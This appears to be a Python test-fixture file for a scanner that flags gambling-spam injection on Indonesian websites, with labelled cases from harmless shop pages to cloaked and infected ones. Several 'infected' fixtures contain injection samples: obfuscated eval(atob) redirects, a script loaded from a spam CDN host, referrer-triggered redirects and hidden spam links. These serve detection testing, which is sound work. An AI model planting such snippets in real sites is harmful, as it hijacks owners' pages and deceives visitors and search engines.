clean('cyber', 'Jasa Keamanan Website', 'jasa', '<h1>Hapus Backlink Judi Slot Gacor</h1><p>Kami membersihkan backlink judi, halaman slot gacor, togel online di WordPress Anda. Garansi 30 hari. Daftar konsultasi gratis.</p>')
clean('cyber2', 'SEO Agency Bersih', 'jasa seo', '<p>Kami tidak menerima klien judi, togel, dan dewasa. Jasa backlink berkualitas, PBN, artikel, login dashboard.</p>')
clean('colocation', 'Data Center Nusa', 'colocation', '<h1>Slot server 1U</h1><p>Slot server Thailand? Kami punya slot server Singapore dan Jakarta. Slot server resmi, RAM 4 slot, deposit bulanan.</p>')
clean('lukisan', 'Galeri Bali', 'lukisan', '<p>Lukisan sabung ayam khas Bali, patung sabung ayam kayu, topeng.</p>')
clean('retro', 'Retro Game Store', 'retro', '<p>Konsol game slot kaset Nintendo, cartridge slot, kartu memori PS2 slot 1 dan slot 2. Game Casino Island, Mahjong Famicom, Poker Smash bekas.</p>')
clean('arcade', 'Sewa Mesin Ding Dong', 'arcade', '<p>Mesin capit boneka, mesin arcade, mesin koin, jackpot tiket timezone, basket arcade.</p>')
clean('gordyn-win', 'Winbet Karpet', 'karpet', '<h1>Alphabet dan Tibet</h1><p>Karpet Tibet, alphabet mat, Baldwin kunci, Darwin tape.</p>')
clean('rujak-gacor', 'Warung Gacor 88', 'warung', '<h1>Warung Gacor 88</h1><p>Ayam geprek gacor, es teh jumbo. Promo gacor hari ini! Link GoFood. Daftar member, bonus poin.</p>')
clean('akun-gacor', 'Jasa Akun Shopee Affiliate Gacor', 'akun gacor', '<p>Kelas live shopee gacor, akun gacor, pola live gacor jam 19.00, bocoran produk gacor hari ini, cuan maksimal.</p>')
clean('driver-gacor', 'Komunitas Ojol Gacor', 'ojol', '<p>Akun ojol gacor, server gacor, tips akun gacor, jaket ojol, situs komunitas. Akun prioritas gacor hari ini.</p>')
clean('burung-situs', 'Situs Gacor Burung Kicau', 'situs burung', '<h1>Situs burung gacor terpercaya</h1><p>Link masteran gacor mp3, download suara murai gacor, slot gantangan lomba hari ini: daftar slot gantangan Rp50.000, hadiah jutaan, bonus juara.</p>')
clean('ayam-hias', 'Ayam Hias', 'ayam', '<p>Ayam Bangkok, bukan untuk sabung ayam. Ayam pelung gacor kontes suara.</p>')
clean('koperasi', 'Koperasi Simpan Pinjam', 'koperasi', '<p>Deposit, withdraw, bunga 6%, undian jackpot tabungan, login anggota. Hindari pinjol dan judi online.</p>')
clean('crypto', 'Toko Aset Kripto Edukasi', 'kripto', '<p>Deposit pulsa tidak tersedia, deposit 10 ribu, withdraw cepat, bonus new member 100 ribu, link login resmi, referral.</p>')
clean('ppob-reseller', 'Raja Pulsa 88', 'server pulsa', '<h1>Raja Pulsa 88</h1><p>Depo 10k langsung transaksi. Deposit pulsa, depo dana, depo qris, tanpa potongan. Link alternatif webreport: <a href="https://report1.rajapulsa88.com">link 1</a> <a href="https://rajapulsa88.net">link alternatif</a>. Daftar agen gratis, bonus new member 100 poin.</p>')
clean('topup-88', 'Zeus88 Game Store', 'top up game', '<h1>Zeus88</h1><p>Top up diamond, game online populer, situs game terpercaya, agen game resmi, link login, daftar reseller. Deposit 10k.</p>')
clean('smkn', 'SMKN 1 Kreatif', 'smk', '<h1>Kampanye Stop Judol</h1><p>Duta anti judi online. Lomba poster "Lawan Slot, Raih Prestasi". Slot gacor hanyalah tipu daya. Togel membuat miskin.</p>')
clean('masjid', 'Toko Busana Muslim Al Falah', 'busana', '<p>Artikel: Hukum bermain slot online dalam Islam. Judi adalah dosa besar (QS Al-Maidah 90). Hukum uang hasil judi bola adalah haram.</p>')
clean('statement', 'PT Maju', 'maju', '<p>PENGUMUMAN: Waspada situs palsu mengatasnamakan PT Maju yang berisi slot gacor dan togel. Situs resmi kami hanya ini.</p>')
clean('review-hack', 'Blog WordPress', 'blog', '<h1>Cara Menghapus Judi Slot dari WordPress</h1><p>Cek file .htaccess, cari kata slot gacor, togel, pragmatic. Ganti kata sandi. Lapor BSSN.</p>')
clean('psiko', 'Klinik Psikologi', 'klinik', '<p>Terapi kecanduan game, judi online, pornografi. Daftar slot konsultasi online. Slot hari ini tersedia.</p>')
clean('hidden-honest', 'Kicau Shop', 'kicau', '<h1>Kicau Shop</h1><div style="display:none" class="keywords">burung gacor, murai gacor, kacer gacor, masteran gacor, pakan burung</div><div style="position:absolute;left:-9999px">Lewati ke konten utama</div>')
clean('hidden-popup', 'Distro Kita', 'distro', '<div class="modal" style="display:none"><h3>Spin wheel jackpot!</h3><p>Putar dan menangkan voucher bonus new member 100 ribu. Daftar sekarang. <a href="https://wa.me/62811">Klaim</a></p></div>')
clean('hidden-honey', 'Toko Pancing', 'pancing', '<form><input type="text" name="hp" style="position:absolute;left:-9999px"><label style="position:absolute;left:-9999px">Jangan diisi</label></form><p>Umpan gacor</p>')
clean('hidden-sr', 'Bengkel Slot', 'bengkel', '<span class="screen-reader-text" style="clip:rect(1px,1px,1px,1px);position:absolute">Mesin slot dan gerinda</span><p>Mesin slotting.</p>')
clean('hidden-links-partners', 'Web Desa', 'desa', '<div style="display:none"><a href="https://tokopedia.com/x">Tokopedia</a><a href="https://shopee.co.id/x">Shopee</a><a href="https://instagram.com/burung_gacor88">IG</a><a href="https://t.me/knalpotgacor">Telegram</a></div>')
clean('ig-gacor', 'Knalpot', 'knalpot', '<p><a href="https://www.instagram.com/knalpot_gacor_official/">Knalpot gacor</a> <a href="https://www.tiktok.com/@gacor88motor">tiktok</a> <a href="https://knalpotgacor.com">toko utama</a></p>')
clean('burunggacor-host', 'Mitra Burung', 'mitra', '<p><a href="https://burunggacor.com">Burung gacor</a> <a href="https://gacorbirdfarm.id">Gacor BF</a> <a href="https://kicaugacor88.com">Kicau gacor</a></p>')
case('spa-prerender', 'clean', '<html><head><title>Kicau Mania</title></head><body><div id="root"></div><script src="/a.js"></script></body></html>', bot=page('Kicau Mania', 'burung gacor', '<p>Burung gacor, slot gantangan, murai gacor, link masteran gacor hari ini.</p>'))
case('bot-more-products', 'clean', kopi(), bot=kopi(body=KOPI + '<ul><li>Mesin slot mortiser</li><li>Baut slot</li><li>TOTO closet</li><li>Karpet 4D</li><li>Kartu poker</li></ul>'))
case('price-by-ref', 'clean', batik(), ref=batik(body=BATIK + '<p>Selamat datang pengunjung Google! Bonus new member 100 ribu, jackpot undian. Daftar sekarang.</p>'))
case('title-differs-honest', 'clean', page('Batik Sekar Arum', 'x', BATIK), bot=page('Beli Batik Online Murah, Gratis Ongkir | Sekar Arum', 'x', BATIK))
case('title-replaced-honest', 'clean', page('Home', 'x', BATIK), bot=page('Slot Umroh Tersedia, Daftar Sekarang', 'x', BATIK))
case('maintenance-bot', 'clean', kue(), bot=page('Dapur Bu Ratna sedang tutup', '', '<p>Libur lebaran.</p>'))
case('atob-honest', 'clean', kopi(foot='<script>document.write(atob("{}"))</script>'.format(base64.b64encode(b'<a href="https://wa.me/62811">Pesan murai gacor via WhatsApp</a>').decode())))
case('canonical-own-other', 'clean', kue(head='<link rel="canonical" href="https://www.toko.co.id/">'))
case('hreflang-own', 'clean', batik(head='<link rel="alternate" hreflang="en" href="https://toko.com/en/"><link rel="alternate" hreflang="id" href="https://toko.id/">'))
case('refresh-own', 'clean', kopi(head='<meta http-equiv="refresh" content="300">'))
case('lang-redir-same', 'clean', kopi(), lang='->https://toko.com/id/')
case('mobile-own-bot', 'clean', kue(), bot='->https://m.toko.id/')
case('referrer-js-honest', 'clean', batik(foot="<script>if(document.referrer.indexOf('google')>-1){fetch('/api/track?src=google')}</script>"))
case('bot-js-honest', 'clean', kopi(foot="<script>if(!/bot|crawl|spider/i.test(navigator.userAgent)){loadChat()}</script>"))
case('tournament', 'clean', page('Turnamen Domino dan Catur RW 05', 'turnamen domino', '<p>Turnamen domino gaple, catur, remi. Hadiah piala dan sembako. Slot peserta 32, daftar slot ke Pak RT. Tanpa taruhan.</p>'))
case('comments-ok', 'suspicious', kue(foot='<div class="comments"><a rel="ugc nofollow" href="https://slotgacor88.online/">slot gacor</a> mantap gan</div>'))

# ---- a third round: many weak words in one honest page, and pages in which little is said
clean('ps-rental', 'Raja77 Game Center - Daftar Member Rental PS5', 'rental ps', '<h1>Raja77 Game Center</h1><p>Main God of War: Zeus, Olympus dan para dewa. Mahjong, Poker, Domino, FIFA. Spin wheel tiap Jumat, jackpot 10 jam gratis. Login member, deposit saldo 10k, bonus new member 100 menit.</p>')
clean('game-voucher', 'JAGO88 - Login Reseller Top Up Game', 'top up game terpercaya', '<h1>JAGO88</h1><p>Situs game dan agen game resmi. Diamond ML, UC, Higgs Domino, Royal Dream, Sugar Rush skin. Deposit pulsa, depo dana, depo qris, depo 10k tanpa potongan. Link alternatif bila web utama sibuk.</p>')
clean('ppob-title', 'DEWA99 PULSA - Daftar Agen Pulsa Termurah, Login Web Report', 'daftar agen pulsa', '<p>Depo 50k bebas biaya. Deposit 24 jam, bonus referral, withdraw komisi, anti blokir nomor. Link alternatif: web1, web2. Server gacor, transaksi gampang.</p>')
clean('toko-toto-88', 'TOTO88 Bangunan - Login Dealer TOTO', 'dealer toto', '<h1>Toko Bangunan TOTO88</h1><p>Agen TOTO resmi, toto terpercaya, harga closet TOTO Hongkong series, katalog TOTO Singapore, link toto.com. Daftar dealer, login, hadiah undian.</p>')
clean('topic-tags', 'Warta Niaga', 'kabar', '<h2>Topik populer</h2><p><a href="https://www.kompas.com/tag/judi-online">Judi Online</a> <a href="https://www.kompas.com/tag/bbm">BBM</a> <a href="https://www.detik.com/tag/umkm">UMKM</a></p>')
clean('headline-widget', 'Toko Kelontong Berkah', 'toko', KOPI + '<ul><li><a href="https://news.detik.com/1">Anggota DPR Ketahuan Main Slot di Ruang Rapat</a></li><li><a href="https://news.detik.com/2">Harga Beras Naik</a></li></ul>')
clean('live-draw', 'Mall Ceria', 'undian', '<h1>Live draw undian mobil</h1><p>Saksikan live draw Sabtu ini, 100 pemenang, hadiah jutaan. Kupon 4 digit, angka keberuntungan.</p>')
clean('karaoke', 'Jackpot Karaoke & Resto', 'karaoke', '<h1>Jackpot Karaoke</h1><p>Booking room, live music, free flow, ladies night. Member baru bonus 100 ribu, main sepuasnya malam ini.</p>')
clean('poker-cards-hidden', 'Toko Sulap', 'sulap', '<h1>Alat sulap</h1><div class="tab" style="display:none"><p>Kartu Bicycle poker, kartu remi, dadu, koin, roulette mini, chip casino dekorasi.</p></div>')
clean('betadine', 'Apotek Alfa Bet', 'apotek', '<p>Betadine, betametason, alphabet, diabet, tibet. Spin doctor, handicap parkir difabel.</p>')
clean('jp-import', 'JP Import - Sparepart Jepang', 'jp', '<p><a href="https://jpauto.co.jp">JP Auto</a> <a href="https://www.jp.mercari.com">Mercari</a> <a href="https://asiajp.net">Asia JP</a> <a href="https://jplive.jp">JP Live</a> <a href="https://infojp.info">Info JP</a></p>')
clean('window-film', 'Maxwindow Film', 'kaca film', '<h1>Maxwindow</h1><p><a href="https://maxwindowfilm.id">Maxwindow Film</a> <a href="https://maxwindow.co.id">Maxwindow pusat</a> kaca film.</p>')
clean('glass-print', 'Cetak Foto Gelas', 'fotogelas', '<p>#fotogelas #fotogelang #cetakfotogelas <a href="https://fotogelasmurah.com">fotogelas</a> <a href="https://fotogelasjogja.com">foto gelas</a></p>')
clean('qurban', 'Bandar Qurban Jaya', 'qurban', '<p>#bandarqurban sapi dan kambing. <a href="https://bandarqurban.id">bandarqurban</a> <a href="https://bandarqurbanjakarta.com">cabang</a></p>')
clean('mpo-cable', 'Fiber Optik Nusantara', 'mpo', '<p>Kabel MPO12, MPO24, MPO-LC breakout, konektor MPO, slot panel 144 core, ODF slot 1U.</p>')
clean('rtp-law', 'Notaris dan RTP', 'rtp', '<p>RTP 98 pegawai, RTP 97 dokumen, RTP tertinggi, live RTP DPRD: Rapat Tim Perumus.</p>')
clean('bola-tv', 'Nobar Cafe Bola', 'nobar', '<h1>Nonton bareng bola malam ini</h1><p>Jadwal bola malam ini, prediksi skor berhadiah kopi gratis, handicap? tidak ada taruhan. Parlay? tidak kenal.</p>')
clean('review-film', 'Rental DVD', 'dvd', '<p>Sinopsis God of Gamblers: raja judi menang taruhan di casino Macau, poker, mahjong. Sewa Rp5.000.</p>')
clean('novel', 'Penerbit Cerita', 'novel', '<p>Novel "Bandar Togel dari Kampung" karya R. Wijaya. Seorang bandar togel insaf. Harga Rp70.000, daftar preorder, bonus tanda tangan.</p>')
clean('drama', 'Teater Kota', 'teater', '<p>Lakon "Judi Online": kisah keluarga yang hancur. Tiket tersedia, booking kursi.</p>')
clean('ebook', 'Toko Ebook', 'ebook', '<p>Ebook statistika: peluang permainan slot, roulette, dan poker. Pembahasan RTP dan house edge. Kuliah peluang untuk SMA.</p>')
clean('sticker', 'Stiker Motor', 'stiker', '<p>Stiker "Slot Gacor" ? Tidak jual. Stiker "Gacor Bosku", "Anti Rungkad", "Gas Pol", "JP Sensational", racing.</p>')
clean('kaos-lucu', 'Kaos Lucu', 'kaos', '<p>Kaos "Rungkad", kaos "Anti Rungkad Club", kaos "Gacor Kang", kaos "Maxwin Hidup".</p>')
clean('kebab-zeus', 'Kebab Zeus 77', 'kebab', '<h1>Kebab Zeus 77 - Daftar Mitra</h1><p>Franchise Kebab Zeus: modal receh, cuan gampang, daftar mitra, login mitra. Promo sugar rush milkshake.</p>')
clean('fruit-party', 'Fruit Party Catering', 'buah', '<p>Fruit party, sweet bonanza buffet, sugar rush corner, starlight princess cake, lucky neko cake, wild west theme, mahjong cookies.</p>')
clean('mobile-menu-hidden', 'Grosir Elektronik', 'elektronik', '<div style="position:fixed;left:-300px" class="drawer"><a href="/slot-sim">Slot SIM</a><a href="/toto">Toto</a><a href="/deposit">Deposit</a><a href="https://grosir88.com/login">Grosir88 Login</a></div>')
clean('hidden-brands', 'Distributor Makanan', 'distributor', '<div style="display:none"><a href="https://raja88.co.id">Raja88</a><a href="https://ratu99.co.id">Ratu99</a></div><p>Mitra kami</p>')
clean('partner-brands', 'Asosiasi Bengkel', 'asosiasi', '<p>Anggota: <a href="https://jaya88.com">Jaya 88</a> <a href="https://maju99.com">Maju 99</a> <a href="https://abadi77.com">Abadi 77</a> <a href="https://sinar168.com">Sinar 168</a></p>')
clean('chat-bot', 'CS Toko', 'cs', '<script>if(!/Googlebot|bingbot/i.test(navigator.userAgent)){var s=document.createElement("script");s.src="https://widget.example/x.js";document.head.appendChild(s);}</script><p>Toko</p>')
clean('gtm-lazy', 'Toko Lazy', 'lazy', '<script>var isBot=/googlebot|lighthouse/i.test(navigator.userAgent);if(!isBot){dataLayer.push({page:location.pathname,ref:document.referrer})}</script><p>Toko bangunan</p>')
clean('utm', 'Toko UTM', 'utm', '<script>if(document.referrer.indexOf("google")>-1){localStorage.src="google";gtag("event","x",{url:location.href})}</script><p>Toko baju</p>')
clean('deeplink', 'Toko App', 'app', '<script>if(/Android/i.test(navigator.userAgent)){document.getElementById("app").href="https://play.google.com/store/apps/details?id=id.toko"}</script><a id=app>Unduh</a>')
clean('packer-honest', 'Toko Slider', 'slider', "<script>eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('$(\\'.0\\').1({2:3});4.5(\\'6 7\\')',8,8,'slot|slick|autoplay|true|console|log|burung|gacor'.split('|'),0,{}))</script>")
clean('ld-honest', 'Toko Murai', 'murai', '<p>Murai</p>', head='<script type="application/ld+json">{"@type":"Store","name":"Murai Gacor 88","url":"https://murai88.com/","sameAs":["https://www.instagram.com/murai_gacor88/","https://www.tiktok.com/@gacor88"]}</script>')
clean('og-honest', 'Toko OG', 'og', '<p>Toko sepatu</p>', head='<meta property="og:url" content="https://toko88.co.id/"><meta property="og:title" content="Toko Sepatu">')
clean('form-honest', 'Toko Form', 'form', '<form action="https://toko.us1.list-manage.com/subscribe"><input type=email></form><form action="https://totolink.id/cari"><input></form>')
clean('dialog-promo', 'Toko Dialog', 'dialog', '<dialog id=p><h2>Jackpot!</h2><p>Spin dan menangkan voucher, bonus new member 100 ribu, daftar.</p></dialog><p>Baju anak</p>')
clean('flip-card', 'Toko Flip', 'flip', '<div style="transform:rotateY(90deg)">Burung gacor, slot kandang</div><p>Pakan burung</p>')
clean('syair', 'Toko Buku Sastra', 'sastra', '<p>Syair Abdul Muluk, gurindam dua belas, forum syair Melayu, kode syair SY-01. Syair Hamzah Fansuri.</p>')
clean('uang-asli', 'Mahar Uang Asli', 'mahar', '<p>Mahar uang asli dan uang mainan, hias uang asli online pesan. Game edukasi uang mainan anak.</p>')
clean('aviator', 'Kacamata Aviator', 'kacamata', '<p>Kacamata aviator, jaket aviator, spaceman helmet anak, crash helmet. Game Aviator? Hanya kacamata.</p>')
clean('dragon-tiger', 'Batik Dragon Tiger', 'naga', '<p>Sarung naga harimau, dragon tiger balm, fortune tiger lampion imlek, lucky neko, aztec pattern, mahjong imlek.</p>')
clean('thai', 'ร้านผ้าบาติก', 'ผ้าบาติก', '<p>ร้านขายผ้าบาติกจากอินโดนีเซีย ส่งฟรี คาสิโนไม่เกี่ยวข้อง</p>', lang='th')
clean('turkish', 'Türk Halısı', 'halı', '<p>Türk halısı, deneme ürünü ücretsiz, bonus puan, siteler.</p>', lang='tr')
case('bot-title-honest-slot', 'clean', page('Bengkel Pintu Jaya', 'x', BATIK), bot=page('Pintu Jaya: Slot Pintu, Gembok, Engsel', 'slot pintu', BATIK))
case('bot-brand-honest', 'clean', page('Raja77 Seafood', 'x', KUE), bot=page('Raja77 Seafood - Daftar Menu dan Login Member', 'x', KUE))
case('ref-promo-domain', 'suspicious', batik(), ref='->https://promo-batik.example/')
case('bot-spa-home', 'clean', '<html><head><title>Vite App</title></head><body><div id=app></div></body></html>', bot=page('TOTO Closet dan Kran Terbaru', 'closet toto', '<p>Agen toto resmi, toto terpercaya, link katalog.</p>'))
case('bot-spa-birds', 'clean', '<html><head><title>Loading</title></head><body><div id=app></div></body></html>', bot=page('Burung Gacor Hari Ini - Kicau', 'gacor', '<p>Situs gacor mania, link gacor mp3, burung super gacor terpercaya, jackpot lomba, gampang menang lomba.</p>'))
case('iframe-map', 'clean', kopi(), bot=kopi(foot='<iframe src="https://www.google.com/maps/embed?pb=1"></iframe><iframe src="https://www.youtube.com/embed/x"></iframe>'))
case('refresh-view-own', 'clean', kue(), ref=kue(head='<meta http-equiv="refresh" content="0;url=https://www.toko.id/promo">'))
# attacks of round three
titled('turkish', 'Deneme Bonusu Veren Siteler 2025 - Bahis ve Casino Siteleri')
titled('turkish2', 'Kaçak Bahis Siteleri Güvenilir Canlı Casino')
titled('portuguese', 'Jogo do Tigrinho Demo - Fortune Tiger Plataforma Pagando')
titled('russian', 'Онлайн казино Вулкан - игровые автоматы на деньги')
titled('spanish', 'Casino en Línea Tragamonedas Gratis Bonos Sin Depósito')
titled('malay', 'Mega888 Slot Online Malaysia Kasino 918kiss Apk')
titled('bonus100', 'Slot Bonus New Member 100 Di Depan Bisa Beli Freespin TO 5x')
titled('garansi', 'Slot Garansi Kekalahan 100% Saldo Kembali Bebas IP')
titled('depo-kripto', 'Situs Slot Kripto USDT Depo Termurah')
titled('toto-wap', 'Wap Toto 4D Login Togel Wap')
titled('live-rtp-brand', 'RTP LIVE HOKI188 Bocoran Pola Terakurat')
titled('apk', 'Download APK Slot Online Penghasil Uang Cepat Cair')
titled('nama-mahjong', 'MAHJONG69 Login Mahjong Wins 3 Black Scatter')
titled('petir', 'Petir Zeus x1000 Gacor Olympus 1000 Super Scatter')
titled('bandarxl', 'BandarXL Togel Toto Slot Deposit XL')
titled('bola-parlay', 'Jadwal Parlay Mix 2 Tim dan Bursa Taruhan Asian Handicap')
titled('zombie', 'Slɵt Gαcør Terpercαyα')
titled('uppercase-gap', 'SLOT   GACOR!!!   2025')
titled('and-sign', 'slot&gacor situs#slot')
titled('hyphen-brand', 'Raja-Slot88 // Login RAJA SLOT 88')
titled('no-space', 'DAFTARSLOTGACOR LINKSLOTMAXWIN')
case('list-goid', 'infected', kopi(foot='<ul style="display:none">' + ''.join(f'<li><a href="https://dinas{i}.kab.go.id/x">{w}</a></li>' for i, w in enumerate(['slot dana', 'toto slot', 'situs toto', 'rtp live', 'link slot', 'demo slot'])) + '</ul>'))
case('klik-slug', 'infected', kue(foot='<div style="position:absolute;left:-9999px">' + ''.join(f'<a href="https://blog{i}.example/{w}">klik</a>' for i, w in enumerate(['slot-gacor', 'togel-online', 'situs-judi-bola'])) + '</div>'))
case('half-px', 'infected', kopi(foot='<div style="height:0.5px;overflow:hidden"><a href="https://x.example">bandar togel</a></div>'))
case('js-src', 'infected', kue(foot="<script>var s=document.createElement('script');s.src='//cdn.slotgacor-x.xyz/a.js';document.head.appendChild(s)</script>"))
case('js-eval-atob', 'infected', batik(foot='<script>eval(atob("{}"))</script>'.format(base64.b64encode(b"if(document.referrer.match(/google/)){location.href='https://situsslot-gacor.top/?x=1'}").decode())))
case('js-function', 'infected', kopi(foot='<script>new Function(atob("{}"))()</script>'.format(base64.b64encode(b"document.body.innerHTML+='<a href=https://judislot.top>agen judi slot online</a>'").decode())))
case('visible-paragraph', 'suspicious', kue(body=KUE + '<p>Slot gacor hari ini adalah pilihan tepat. Daftar situs slot gacor terpercaya dengan deposit pulsa tanpa potongan.</p>'))
case('bare-anchor', 'suspicious', batik(body=BATIK + '<p>Kain ini cocok dipadukan. <a href="https://zz.example/">situs judi online</a></p>'))
case('brand-entrance', 'infected', page('GARUDA138: Login dan Daftar GARUDA138', 'Garuda138 tempat bermain', '<h1>GARUDA138</h1><p>Nikmati Mahjong Ways, Wild Bandito, RTP live tertinggi, mudah maxwin dan scatter. Depo 10k lewat QRIS.</p>'))
case('frame-full-home', 'infected', kopi(foot='<iframe src="https://lp.hoki777.live/" style="position:fixed;inset:0;width:100vw;height:100vh"></iframe>'))
case('refresh-one-view', 'suspicious', kue(), ref=kue(head='<meta http-equiv="refresh" content="0;url=https://lp-abc.example/">'))
case('og-title-bot', 'infected', batik(), bot=batik(head='<meta property="og:title" content="Situs Slot Gacor Resmi"><meta property="og:description" content="togel online">'))
case('h1-bot', 'infected', kopi(), bot=kopi(body='<h1>Togel Online Terpercaya</h1>' + KOPI))
case('text-bot', 'infected', kue(), bot=kue(body=KUE + '<p>situs slot gacor, bandar togel, agen judi bola, rtp slot</p>'))
case('hidden-matter', 'infected', batik(foot='<div style="font-size:0"><a href="https://w1.example">judi online</a> <a href="https://w2.example">judi bola</a></div>'))
case('img-hidden-alt', 'infected', kopi(foot='<div style="position:absolute;left:-9999px"><img src=a.png alt="situs slot gacor maxwin terpercaya"></div>'))

# ---- a fourth round: whole little shops with many words of one trade, and what injectors leave in them
PULSA = '<h1>Server Pulsa Nusantara</h1><ul><li>Deposit pulsa 24 jam</li><li>Depo 10k tanpa potongan</li><li>Link alternatif web report</li><li>Bonus new member 100 poin</li><li>Login agen</li></ul>'
BURUNG = '<h1>Kandang Gacor</h1><p>Murai gacor, voer gacor, pola pakan gacor harian, bocoran settingan gacor juara, slot gantangan G24, jadwal lomba, jackpot juara umum motor.</p>'
TOTO = '<h1>Toko Sanitary</h1><p>Closet TOTO CW 660, kran TOTO, agen TOTO resmi, toto terpercaya, <a href="https://id.toto.com/">TOTO Indonesia</a>, <a href="https://asia.toto.com/">TOTO Asia</a>, <a href="https://www.toto.com">TOTO</a></p>'
for _n, _t, _b in (('pulsa', 'Server Pulsa Nusantara - Agen Pulsa', PULSA), ('burung', 'Kandang Gacor BF', BURUNG), ('toto', 'Toko Sanitary TOTO Makmur', TOTO)):
    _p = page(_t, _t, _b)
    case('plain-' + _n, 'clean', _p)
    case('plain-' + _n + '-bot-more', 'clean', _p, bot=page(_t, _t, _b + '<p>Login, daftar, promo hari ini, terpercaya, resmi.</p>'))
    case('plain-' + _n + '-bot-title', 'clean', page('Beranda', '', _b), bot=page(_t + ' Terpercaya Hari Ini', _t, _b))
    case('hit-' + _n + '-hidden', 'infected', page(_t, _t, _b, foot='<div style="position:absolute;left:-9999px"><a href="https://x1.example">slot gacor maxwin</a> <a href="https://x2.example">bandar togel</a></div>'))
    case('hit-' + _n + '-title', 'infected', _p, bot=page('Situs Slot Gacor Maxwin Hari Ini', 'slot', '<h1>Slot Gacor</h1>'))
    case('hit-' + _n + '-ref', 'infected', _p, ref='->https://slotgacor88.vip/')
    case('hit-' + _n + '-same-words', 'infected', _p, bot=page(_t + ' | Slot Deposit Pulsa Maxwin', _t, _b + '<p>Situs slot online gampang maxwin, togel macau.</p>'))
    case('hit-' + _n + '-js', 'infected', page(_t, _t, _b, foot="<script>if(document.referrer.match(/google|bing/)){top.location='https://linkslotmaxwin.site'}</script>"))
clean('rent-slot', 'Sewa Lapak Bazar', 'bazar', '<p>Sewa slot bazar. Slot VIP, slot terbaik dekat panggung, slot terbaru, slot resmi panitia, agen slot bazar, daftar slot, link slot: bit.ly/bazar. Slot hari ini tinggal 5, slot terpercaya.</p>')
clean('slot-jastip', 'Jastip Bangkok', 'jastip', '<p>Slot jastip Thailand dibuka! Slot Thailand 20kg, slot terbatas, deposit 50%, daftar sekarang, link form. Slot Kamboja menyusul.</p>')
clean('slot-kelas', 'Kelas Menjahit', 'kelas', '<p>Slot online penuh, slot offline tersedia. Bonus new member 100 ribu. Demo slot kelas gratis. Slot deposit dulu.</p>')
clean('slot-po', 'PO Kue', 'po', '<p>Open PO slot lebaran: slot gampang habis, daftar slot, slot dana/qris diterima, slot deposit 50 ribu, link slot di bio, slot resmi dibuka hari ini.</p>')
clean('slot-undangan', 'Undangan Digital', 'undangan', '<p>Slot tayang, slot iklan banner, slot foto 10, slot musik. Akun demo tersedia. Login demo.</p>')
clean('akun-slot', 'Jual Akun Premium', 'akun', '<p>Akun slot sharing Netflix: 1 slot 1 profil, slot Canva, slot YouTube. Akun slot terbatas, garansi resmi, bonus.</p>')
clean('slot-maxi', 'Konter HP', 'hp', '<p>HP dual slot, slot sim gacor sinyal, slot memori, service slot pengisian. Slot 5k? Tidak ada.</p>')
clean('game-slotcar', 'Hobi Tamiya', 'tamiya', '<p>Game slot car, permainan slot car untuk anak, mesin slot car, situs slot car Indonesia, komunitas slot car.</p>')
clean('gacor-service', 'Service AC Gacor', 'ac', '<p>Service AC gacor, gampang, terpercaya, bonus cuci, link WA. Teknisi gacor hari ini. Super gacor dinginnya! Situs resmi service AC.</p>')
clean('gacor-speaker', 'Speaker Gacor', 'speaker', '<p>Speaker gacor, bass gacor, TOA gacor, slot USB, slot TF, spin disc, jackpot diskon. Zeus speaker 15 inch.</p>')
clean('live-shopee', 'Live Host', 'host', '<p>Live gacor, rtp live? pola live gacor, jam gacor live, link live, bocoran jam gacor, akun gacor terpercaya, withdraw komisi.</p>')
clean('kasino-seni', 'Komik Kasino', 'komik', '<p>Komik Dono Kasino Indro, film Warkop, kaos Kasino online store, situs kasino fans.</p>')
clean('bandar', 'Bandar Cabai Garut', 'bandar', '<p>Bandar cabai, bandar sayur, bandar ikan terpercaya, agen bandar pisang. Bandar besar, bandar online sayur. Link grup.</p>')
clean('agen-bola-2', 'Agen Bola Futsal', 'bola', '<p>Bandar bola plastik, agen bola mandi bola, situs bola murah, taruhan kualitas garansi, mix warna. Daftar harga, login grosir.</p>')
clean('angka', 'Toko Angka Rumah', 'angka', '<p>Angka 4D akrilik, angka timbul 3D, nomor rumah, hadiah 4D puzzle, prediksi tiba 3 hari. Huruf timbul 2D 3D 4D.</p>')
clean('paito', 'Kain Warna', 'kain', '<p>Tabel warna, keluaran terbaru, result pencelupan, pasaran kain, data SDY (Sidoarjo), data HK, pengeluaran SGP Surabaya Gresik Pasuruan.</p>')
clean('lomba-merpati', 'Merpati Kolong', 'merpati', '<p>Lomba merpati, ayam bangkok, sabung? dilarang. Jago gacor, laga kontes ayam serama, arena latihan.</p>')
clean('warning-banner', 'Toko Kain', 'kain', KUE + '<div class="banner">Waspada! Situs kami pernah disusupi judi online. Sudah bersih per 1 Mei.</div>')
clean('comment-policy', 'Blog Kopi', 'kopi', KOPI + '<p>Komentar berisi link judi, slot, togel akan dihapus.</p>')
clean('tos', 'Payment Gateway UMKM', 'pg', '<p>Kategori usaha yang dilarang: perjudian, kasino, togel, slot online, taruhan olahraga, senjata, obat terlarang.</p>')
clean('tos-en', 'Host ID', 'host', '<p>Prohibited: online casino, sports betting, slots online, poker sites, adult content.</p>')
clean('islamic', 'Herbal Sunnah', 'herbal', '<p>Artikel: Hukum Main Slot Online Menurut Ulama. Judi itu haram, dosa besar. Togel, slot, taruhan bola semuanya maisir.</p>')
clean('parent', 'Toko Mainan', 'mainan', '<p>Tips: Lindungi anak dari game slot online dan judi online. Aktifkan kontrol orang tua, temani anak bermain.</p>')
clean('bank', 'BPR Desa', 'bpr', '<p>Jaga rekening Anda. Jangan jual beli rekening untuk judi online. Rekening penampung deposit slot akan dibekukan.</p>')
clean('polri', 'Media Desa', 'media', '<p>Polres Garut menangkap 3 admin situs slot gacor. Pelaku mempromosikan link judi online lewat Instagram, omzet Rp2 miliar, deposit lewat QRIS, bonus new member.</p>')
clean('survey', 'Riset UMKM', 'riset', '<p>Survei: 30% pedagang mengenal judi online; slot dan togel paling banyak disebut. Dampak pada omzet warung.</p>')
clean('recovery', 'Yayasan Pulih', 'yayasan', '<p>Saya mantan pemain slot gacor. Kalah 200 juta. Kini pulih. Hubungi konselor. Grup dukungan tiap Rabu.</p>')
clean('hacked-notice', 'CV Karya', 'karya', '<p>Mohon maaf, hasil pencarian Google kami sempat menampilkan judul "Slot Gacor Hari Ini". Itu ulah peretas, kami sedang memulihkan.</p>')
